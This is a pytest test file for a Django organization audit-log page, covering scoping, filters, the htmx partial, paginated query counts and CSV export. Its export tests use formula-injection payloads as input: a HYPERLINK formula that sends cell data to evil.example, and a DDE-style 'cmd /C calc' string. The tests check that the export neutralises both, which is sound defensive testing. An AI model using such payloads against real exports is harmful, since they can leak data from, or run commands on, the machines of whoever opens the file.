"""The activity page (the organization's audit log for admins): scoping, filters, htmx partial,
CSV export and query counts."""

import csv
import io
import re
from datetime import UTC, datetime
from html import unescape

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.tests.factories import UserFactory
from web.tests.html import one
from web.tests.pages import from_element, table_rows, text
from workspace.audit import audit_record, request_origin
from workspace.models import AuditAction, Role
from workspace.services.organizations import organization_rename
from workspace.services.projects import custom_field_create, project_create
from workspace.services.sign_ins import sign_in_record
from workspace.services.tasks import task_create, task_update
from workspace.tenancy import organization_scope
from workspace.tests.factories import (
    CommentFactory,
    MembershipFactory,
    OrganizationFactory,
    ProjectFactory,
    TaskFactory,
)

pytestmark = pytest.mark.django_db

HTMX = {"HTTP_HX_REQUEST": "true"}
CSV_HEADER = [
    "time",
    "actor",
    "actor_email",
    "action",
    "object_type",
    "object",
    "changes",
    "ip",
    "user_agent",
]
FORMULA_STARTS = ("=", "+", "-", "@")


def activity_url(**query):
    url = reverse("web:activity", kwargs={"org_slug": "acme"})
    if query:
        url += "?" + "&".join(f"{key}={value}" for key, value in query.items())
    return url


def at(day: int, hour: int = 12) -> datetime:
    return datetime(2030, 3, day, hour, tzinfo=UTC)


def log(organization, *, when=None, **kwargs):
    """One audit entry recorded the way services record them, at ``when`` if given."""
    with organization_scope(organization):
        if when is None:
            return audit_record(organization=organization, **kwargs)
        with time_machine.travel(when, tick=False):
            return audit_record(organization=organization, **kwargs)


def rows(response) -> list[str]:
    assert response.status_code == 200
    return table_rows(from_element(response.content.decode(), "activity-table"))


def csv_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def project(organization):
    with organization_scope(organization):
        return ProjectFactory(organization=organization, name="Website", slug="website")


@pytest.fixture
def task(project, member):
    with organization_scope(project.organization):
        return TaskFactory(project=project, title="Write the copy", created_by=member.user)


@pytest.fixture
def other_org():
    """Another organization with activity of its own."""
    globex = OrganizationFactory(name="Globex", slug="globex")
    boss = MembershipFactory(organization=globex, role=Role.OWNER, user__name="Gina Globex")
    with organization_scope(globex):
        secret = ProjectFactory(organization=globex, name="Globex secret plan")
        project_create(organization=globex, actor=boss, name="Globex launch")
    log(globex, actor=boss, action=AuditAction.UPDATED, target=secret)
    return globex


@pytest.fixture
def book(organization, admin, member, project, task):
    """Five entries of the acme log, one a day from March 1st to 5th 2030 (noon UTC), of
    different actors, actions and kinds of object. Keys name them; the page shows them newest
    first."""
    with organization_scope(organization):
        comment = CommentFactory(task=task, author=member.user)
    return {
        "project-created": log(
            organization,
            when=at(1),
            actor=admin,
            action=AuditAction.CREATED,
            target=project,
            object_repr="Website",
        ),
        "task-created": log(
            organization,
            when=at(2),
            actor=member,
            action=AuditAction.CREATED,
            target=task,
            object_repr=f"#{task.number} Draft the copy",
        ),
        "task-updated": log(
            organization,
            when=at(3),
            actor=member,
            action=AuditAction.UPDATED,
            target=task,
            changed_fields={"status": ["To do", "In progress"]},
            object_repr=f"#{task.number} Write the copy",
        ),
        "comment-deleted": log(
            organization,
            when=at(4),
            actor=admin,
            action=AuditAction.DELETED,
            target=comment,
            object_repr=f"on #{task.number}",
        ),
        "role-changed": log(
            organization,
            when=at(5),
            actor=admin,
            action=AuditAction.ROLE_CHANGED,
            target=member,
            changed_fields={"role": ["Member", "Admin"]},
        ),
    }


# How each entry of ``book`` shows in its row: what it did to which object.
SHOWN = {
    "project-created": "created project Website",
    "task-created": "created task #1 Draft the copy",
    "task-updated": "updated task #1 Write the copy",
    "comment-deleted": "deleted comment on #1",
    "role-changed": "changed a role membership Mia Member",
}


def assert_rows(found: list[str], keys: list[str]):
    """The rows are exactly the entries named by ``keys``, in that order."""
    assert len(found) == len(keys), found
    for row, key in zip(found, keys, strict=True):
        assert SHOWN[key] in row, (key, row)


class TestScope:
    def test_admin_sees_the_organizations_entries_newest_first(self, login, admin, book):
        found = rows(login(admin).get(activity_url()))

        assert_rows(
            found,
            ["role-changed", "comment-deleted", "task-updated", "task-created", "project-created"],
        )
        assert found[0].startswith("2030-03-05 12:00 Adam Admin changed a role")
        assert "status: To do → In progress" in found[2]
        assert found[2].startswith("2030-03-03 12:00 Mia Member updated")

    def test_other_organizations_and_sign_ins_are_not_shown(
        self, login, admin, member, book, other_org
    ):
        sign_in_record(action=AuditAction.LOGIN, user=admin.user, identifier="adam@signin.test")
        sign_in_record(action=AuditAction.LOGIN_FAILED, user=member.user, identifier="mia@x.test")

        response = login(admin).get(activity_url())

        page = response.content.decode()
        assert len(rows(response)) == len(book)
        assert "Globex" not in page
        assert "Gina Globex" not in page
        assert "signin.test" not in page
        assert "signed in" not in text(from_element(page, "activity-table"))
        assert "failed to sign in" not in text(from_element(page, "activity-table"))

    def test_entries_recorded_by_the_services_show_up(self, login, admin, member, organization):
        with organization_scope(organization):
            project = project_create(organization=organization, actor=admin, name="Launch")
            task = task_create(
                organization=organization, actor=member, project=project, title="Book the hall"
            )
            task_update(task=task, actor=member, data={"status": "done"})

        found = rows(login(admin).get(activity_url()))

        assert len(found) == 3
        assert "Mia Member updated task" in found[0]
        assert "status: To do → Done" in found[0]
        assert f"Mia Member created task #{task.number} Book the hall" in found[1]
        assert "Adam Admin created project Launch" in found[2]

    def test_empty_log_says_so(self, login, admin):
        response = login(admin).get(activity_url())

        assert rows(response) == []
        assert "Nothing recorded for these filters." in response.content.decode()

    def test_owner_is_allowed_and_members_are_refused(self, login, owner, member, book):
        assert login(owner).get(activity_url()).status_code == 200
        assert login(member).get(activity_url()).status_code == 403
        assert login(member).get(activity_url(export="csv")).status_code == 403


class TestFilters:
    @pytest.mark.parametrize(
        ("query", "keys"),
        [
            pytest.param(
                lambda admin, member: {"actor": member.user_id},
                ["task-updated", "task-created"],
                id="actor-member",
            ),
            pytest.param(
                lambda admin, member: {"actor": admin.user_id},
                ["role-changed", "comment-deleted", "project-created"],
                id="actor-admin",
            ),
            pytest.param(
                lambda admin, member: {"action": "deleted"}, ["comment-deleted"], id="action"
            ),
            pytest.param(
                lambda admin, member: {"action": "role_changed"},
                ["role-changed"],
                id="action-role",
            ),
            pytest.param(
                lambda admin, member: {"object_type": "task"},
                ["task-updated", "task-created"],
                id="object-task",
            ),
            pytest.param(
                lambda admin, member: {"object_type": "project"},
                ["project-created"],
                id="object-project",
            ),
            pytest.param(
                lambda admin, member: {"object_type": "comment"},
                ["comment-deleted"],
                id="object-comment",
            ),
            pytest.param(
                lambda admin, member: {"object_type": "membership"},
                ["role-changed"],
                id="object-membership",
            ),
            pytest.param(
                lambda admin, member: {"object_type": "invitation"}, [], id="object-invitation"
            ),
            pytest.param(
                lambda admin, member: {"date_after": "2030-03-02", "date_before": "2030-03-04"},
                ["comment-deleted", "task-updated", "task-created"],
                id="dates-inclusive",
            ),
            pytest.param(
                lambda admin, member: {"date_after": "2030-03-04"},
                ["role-changed", "comment-deleted"],
                id="date-after-only",
            ),
            pytest.param(
                lambda admin, member: {"date_before": "2030-03-01"},
                ["project-created"],
                id="date-before-only",
            ),
            pytest.param(
                lambda admin, member: {"date_after": "2030-03-03", "date_before": "2030-03-03"},
                ["task-updated"],
                id="one-day",
            ),
            pytest.param(
                lambda admin, member: {
                    "actor": admin.user_id,
                    "object_type": "comment",
                    "date_after": "2030-03-04",
                },
                ["comment-deleted"],
                id="combined",
            ),
            pytest.param(
                lambda admin, member: {"actor": member.user_id, "action": "deleted"},
                [],
                id="combined-empty",
            ),
        ],
    )
    def test_filter_narrows_the_rows(self, login, admin, member, book, query, keys):
        found = rows(login(admin).get(activity_url(**query(admin, member))))

        assert_rows(found, keys)

    def test_actor_choices_are_the_organizations_members(self, login, admin, member, other_org):
        page = login(admin).get(activity_url()).content.decode()

        assert f'<option value="{member.user_id}">Mia Member</option>' in page
        assert f'<option value="{admin.user_id}">Adam Admin</option>' in page
        assert "Gina Globex" not in page

    def test_a_foreign_actor_is_an_invalid_choice_not_a_leak(self, login, admin, book, other_org):
        with organization_scope(other_org):
            stranger = other_org.memberships.get()

        response = login(admin).get(activity_url(actor=stranger.user_id))

        assert "Select a valid choice" in response.content.decode()
        assert len(rows(response)) == len(book)  # the invalid filter is ignored
        assert "Globex" not in text(from_element(response.content.decode(), "activity-table"))

    def test_sign_in_actions_are_not_offered(self, login, admin):
        page = login(admin).get(activity_url()).content.decode()

        assert 'value="role_changed"' in page
        assert 'value="login"' not in page
        assert 'value="logout"' not in page

    def test_filters_are_kept_in_the_form(self, login, admin, member, book):
        page = (
            login(admin)
            .get(activity_url(actor=member.user_id, date_after="2030-03-02"))
            .content.decode()
        )

        assert f'<option value="{member.user_id}" selected>Mia Member</option>' in page
        assert 'name="date_after" id="id_date_after" value="2030-03-02"' in page

    def test_custom_field_and_organization_entries_by_type(
        self, login, admin, organization, project
    ):
        with organization_scope(organization):
            custom_field_create(project=project, actor=admin, name="Budget", field_type="text")
            organization_rename(organization=organization, actor=admin, name="Acme Corp")
        client = login(admin)

        [field_row] = rows(client.get(activity_url(object_type="customfield")))
        [org_row] = rows(client.get(activity_url(object_type="organization")))

        assert "created customfield field Budget of Website" in field_row
        assert "Adam Admin updated organization" in org_row
        assert "Acme → Acme Corp" in org_row

    def test_an_invalid_date_is_reported_and_ignored(self, login, admin, book):
        response = login(admin).get(activity_url(date_after="yesterday"))

        assert "Enter a valid date" in response.content.decode()
        assert len(rows(response)) == len(book)


class TestHtmx:
    def test_htmx_request_gets_only_the_table(self, login, admin, member, book):
        response = login(admin).get(activity_url(actor=member.user_id), **HTMX)

        html = response.content.decode()
        assert html.lstrip().startswith('<div id="activity-table"')
        assert "<html" not in html
        assert 'role="search"' not in html
        assert_rows(table_rows(html), ["task-updated", "task-created"])
        assert "HX-Request" in response["Vary"]

    def test_boosted_request_gets_the_whole_page(self, login, admin, book):
        response = login(admin).get(activity_url(), HTTP_HX_BOOSTED="true", **HTMX)

        html = response.content.decode()
        assert "<html" in html
        assert 'role="search"' in html

    def test_plain_request_gets_the_whole_page(self, login, admin, book):
        response = login(admin).get(activity_url())

        assert "<html" in response.content.decode()
        assert "HX-Request" in response["Vary"]


class TestCsvExport:
    def test_export_has_the_header_and_every_entry(self, login, admin, book, other_org):
        sign_in_record(action=AuditAction.LOGIN, user=admin.user, identifier="adam@signin.test")

        table = csv_of(login(admin).get(activity_url(export="csv")))

        assert table[0] == CSV_HEADER
        assert len(table) == 1 + len(book)
        assert [row[0] for row in table[1:]] == [
            "2030-03-05T12:00:00+00:00",
            "2030-03-04T12:00:00+00:00",
            "2030-03-03T12:00:00+00:00",
            "2030-03-02T12:00:00+00:00",
            "2030-03-01T12:00:00+00:00",
        ]
        assert not any("Globex" in cell or "signin.test" in cell for row in table for cell in row)

    def test_export_cells(self, login, admin, member, book):
        table = csv_of(login(admin).get(activity_url(export="csv", action="updated")))

        assert len(table) == 2
        row = dict(zip(CSV_HEADER, table[1], strict=True))
        assert row["time"] == "2030-03-03T12:00:00+00:00"
        assert row["actor"] == "Mia Member"
        assert row["actor_email"] == member.user.email
        assert row["action"] == "updated"
        assert row["object_type"] == "task"
        assert row["object"] == "#1 Write the copy"
        assert "To do" in row["changes"]
        assert "In progress" in row["changes"]
        assert row["ip"] == ""
        assert row["user_agent"] == ""

    def test_system_entries(self, login, admin, organization, project):
        log(organization, actor=None, action=AuditAction.ARCHIVED, target=project)

        table = csv_of(login(admin).get(activity_url(export="csv")))

        row = dict(zip(CSV_HEADER, table[1], strict=True))
        assert (row["actor"], row["actor_email"], row["action"]) == ("system", "", "archived")
        assert (row["object_type"], row["object"], row["changes"]) == ("project", "Website", "")

    def test_where_a_change_came_from_is_on_the_page_and_in_the_export(
        self, login, admin, member, task
    ):
        client = login(member)
        client.post(
            reverse("web:task-inline", args=["acme", task.number, "status"]),
            {"status": "done", "version": task.version},
            HTTP_USER_AGENT='=HYPERLINK("http://evil.example")',
            REMOTE_ADDR="198.51.100.23",
        )
        client = login(admin)

        [row] = rows(client.get(activity_url()))
        table = csv_of(client.get(activity_url(export="csv")))

        assert row.endswith("status: To do → Done 198.51.100.23")
        cells = dict(zip(CSV_HEADER, table[1], strict=True))
        assert cells["ip"] == "198.51.100.23"
        assert cells["user_agent"] == '\'=HYPERLINK("http://evil.example")'

    @pytest.mark.parametrize(
        ("query", "keys"),
        [
            (lambda admin, member: {"actor": member.user_id}, ["task-updated", "task-created"]),
            (lambda admin, member: {"object_type": "comment"}, ["comment-deleted"]),
            (
                lambda admin, member: {"date_after": "2030-03-02", "date_before": "2030-03-03"},
                ["task-updated", "task-created"],
            ),
            (lambda admin, member: {"action": "purged"}, []),
        ],
    )
    def test_export_has_exactly_the_filtered_rows(self, login, admin, member, book, query, keys):
        table = csv_of(login(admin).get(activity_url(export="csv", **query(admin, member))))

        assert table[0] == CSV_HEADER
        assert [row[0] for row in table[1:]] == [book[key].created_at.isoformat() for key in keys]

    def test_export_is_not_paginated(self, login, admin, organization, project):
        for day in range(1, 29):
            for hour in (9, 15):
                log(
                    organization,
                    when=at(day, hour),
                    actor=admin,
                    action=AuditAction.UPDATED,
                    target=project,
                )

        table = csv_of(login(admin).get(activity_url(export="csv", page=2)))

        assert len(table) == 1 + 56

    def test_export_is_a_named_attachment(self, login, admin, book):
        client = login(admin)
        with time_machine.travel(datetime(2031, 7, 4, 9, 5, tzinfo=UTC), tick=False):
            response = client.get(activity_url(export="csv"))

        assert response["Content-Type"].startswith("text/csv")
        assert (
            response["Content-Disposition"]
            == 'attachment; filename="acme-activity-20310704-0905.csv"'
        )

    def test_export_link_keeps_the_filters(self, login, admin, member, book):
        page = login(admin).get(activity_url(action="deleted", page=1)).content.decode()

        link = re.search(r'<a [^>]*href="([^"]*)"[^>]*data-testid="export-csv"', page)
        href = unescape(link.group(1))
        assert "export=csv" in href
        assert "action=deleted" in href
        assert "page=" not in href

    def test_formula_looking_objects_and_user_agents_are_neutralised(
        self, login, admin, member, organization
    ):
        evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
        with (
            organization_scope(organization),
            request_origin(ip_address="203.0.113.9", user_agent="@SUM(1+1)*cmd|' /C calc'!A0"),
        ):
            project = project_create(organization=organization, actor=admin, name=evil)
            task = task_create(organization=organization, actor=member, project=project, title=evil)
            task_update(task=task, actor=member, data={"title": "+1+2 is three"})
            project_create(organization=organization, actor=admin, name="-2+3")

        table = csv_of(login(admin).get(activity_url(export="csv")))

        data = table[1:]
        assert len(data) == 4
        objects = [dict(zip(CSV_HEADER, row, strict=True))["object"] for row in data]
        assert f"'{evil}" in objects
        assert "'-2+3" in objects
        assert f"#{task.number} {evil}" in objects  # starts with "#": not a formula
        for row in data:
            assert row[CSV_HEADER.index("user_agent")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
            assert row[CSV_HEADER.index("ip")] == "203.0.113.9"
        assert_no_formulas(data)

    @pytest.mark.parametrize(
        ("name", "email"),
        [
            pytest.param('=HYPERLINK("http://evil.example","Hi")', "eve@example.com", id="name"),
            pytest.param("Eve", "=1+1@example.com", id="email"),
            pytest.param("@SUM(A1:A9)", "-2+3@example.com", id="name-and-email"),
        ],
    )
    def test_formula_looking_actor_names_and_emails_are_neutralised(
        self, login, admin, organization, project, name, email
    ):
        # Display names are free text (sign-up and profile forms), and "=1+1@example.com" is a
        # valid e-mail address: both columns come from what users type.
        eve = MembershipFactory(organization=organization, user=UserFactory(name=name, email=email))
        log(organization, actor=eve, action=AuditAction.UPDATED, target=project)

        table = csv_of(login(admin).get(activity_url(export="csv")))

        assert_no_formulas(table[1:])


def assert_no_formulas(data: list[list[str]]):
    for row in data:
        for column, cell in zip(CSV_HEADER, row, strict=True):
            assert not cell.startswith(FORMULA_STARTS), f"{column} cell {cell!r} is a formula"


class TestQueryCount:
    def test_page_queries_do_not_grow_with_entries(
        self, login, admin, organization, project, task, django_assert_max_num_queries
    ):
        client = login(admin)
        client.get(activity_url())  # warm up the session and the content types cache
        make_entries(organization, project, task, 5)
        with django_assert_max_num_queries(20) as few:
            assert len(rows(client.get(activity_url()))) == 5
        make_entries(organization, project, task, 55)
        with django_assert_max_num_queries(len(few.captured_queries)):
            response = client.get(activity_url())
        assert len(rows(response)) == 50  # one page
        assert "1–50 of 60" in response.content.decode()  # noqa: RUF001 (the page says so)

    def test_the_count_stops_at_the_cap_like_the_task_list(
        self, login, admin, organization, project, task, monkeypatch
    ):
        monkeypatch.setattr("web.paginators.COUNT_CAP", 3)
        make_entries(organization, project, task, 6)

        with CaptureQueriesContext(connection) as queries:
            response = login(admin).get(activity_url())

        counts = [
            q["sql"]
            for q in queries.captured_queries
            if "COUNT(" in q["sql"].upper() and "workspace_auditlog" in q["sql"]
        ]
        assert len(counts) == 1
        assert "LIMIT 4" in counts[0].upper()
        assert "of more than 3" in text(response.content.decode())

    def test_second_page_has_the_rest(self, login, admin, organization, project, task):
        make_entries(organization, project, task, 60)

        assert len(rows(login(admin).get(activity_url(page=2)))) == 10

    def test_export_queries_do_not_grow_with_entries(
        self, login, admin, organization, project, task, django_assert_max_num_queries
    ):
        client = login(admin)
        client.get(activity_url())
        make_entries(organization, project, task, 5)
        with django_assert_max_num_queries(20) as few:
            assert len(csv_of(client.get(activity_url(export="csv")))) == 6
        make_entries(organization, project, task, 55)
        with django_assert_max_num_queries(len(few.captured_queries)):
            assert len(csv_of(client.get(activity_url(export="csv")))) == 61


def make_entries(organization, project, task, count):
    """``count`` entries by as many different people, about tasks, projects and members."""
    for i in range(count):
        actor = MembershipFactory(organization=organization)
        target = (task, project, actor)[i % 3]
        log(
            organization,
            actor=actor,
            action=AuditAction.UPDATED,
            target=target,
            changed_fields={"title": [f"Old {i}", f"New {i}"]},
        )


def test_the_export_link_follows_filters_changed_in_place(login, admin):
    """An htmx answer to the filters carries the export link out of band, with those filters."""
    response = login(admin).get(activity_url(action="updated"), HTTP_HX_REQUEST="true")

    link = one(response, "#activity-export")
    assert link["hx-swap-oob"] == "true"
    assert "action=updated" in link["href"]
    assert "export=csv" in link["href"]
    page = login(admin).get(activity_url(action="updated"))
    assert not one(page, "#activity-export").has_attr("hx-swap-oob")
